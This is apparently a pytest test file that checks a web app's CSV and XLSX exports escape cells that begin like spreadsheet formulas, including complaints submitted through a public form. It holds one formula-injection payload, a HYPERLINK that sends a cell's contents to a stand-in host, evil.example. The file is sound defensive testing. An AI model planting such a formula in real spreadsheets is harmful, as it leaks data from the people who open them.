"""Every CSV and XLSX export writes text that looks like a formula as text (one helper)."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from balai.audit.models import AuditEvent
from balai.core.spreadsheet import FORMULA_STARTS, csv_writer, safe_cell, xlsx_append
from balai.feedback.complaint_services import ComplaintIn, complaint_submit
from tests.fixtures import VILLAGE

ATTACK = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'


@given(st.text(min_size=1))
def test_no_written_cell_starts_a_formula(text):
    cell = safe_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    # Nothing is lost: the cell reads back as typed, after its escaping apostrophe.
    assert cell in (text, "'" + text)


def test_numbers_and_dates_stay_numbers():
    assert safe_cell(-5) == -5 and safe_cell(2.5) == 2.5 and safe_cell(None) is None


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_and_xlsx_cells_are_neutralised(start):
    out = io.StringIO()
    csv_writer(out).writerow([start + "1+1", "aman"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'" + start + "1+1", "aman"]
    book = Workbook()
    xlsx_append(book.active, [start + "SUM(A1)"])
    buf = io.BytesIO()
    book.save(buf)
    cell = load_workbook(buf).active["A1"]
    assert cell.data_type == "s" and cell.value == "'" + start + "SUM(A1)"


def test_the_complaints_export_neutralises_the_public_form_and_is_audited(
    client, regions, make_staff
):
    complaint_submit(
        data=ComplaintIn(
            channel="web",
            category="pelayanan",
            text=ATTACK * 2,
            region_code=VILLAGE,
            anonymous=True,
        )
    )
    officer = make_staff("admin_kabupaten", region="35.10")
    client.force_login(officer)
    response = client.get("/suara/pengaduan/kelola/ekspor.csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content if response.streaming else [response.content])
    rows = list(csv.DictReader(io.StringIO(body.decode())))
    assert rows and all(not v.startswith(FORMULA_STARTS) for r in rows for v in r.values())
    assert rows[0]["isi_laporan"] == "'" + ATTACK * 2
    event = AuditEvent.objects.get(action="feedback.complaints_exported")
    assert event.actor == officer and event.after["count"] == 1
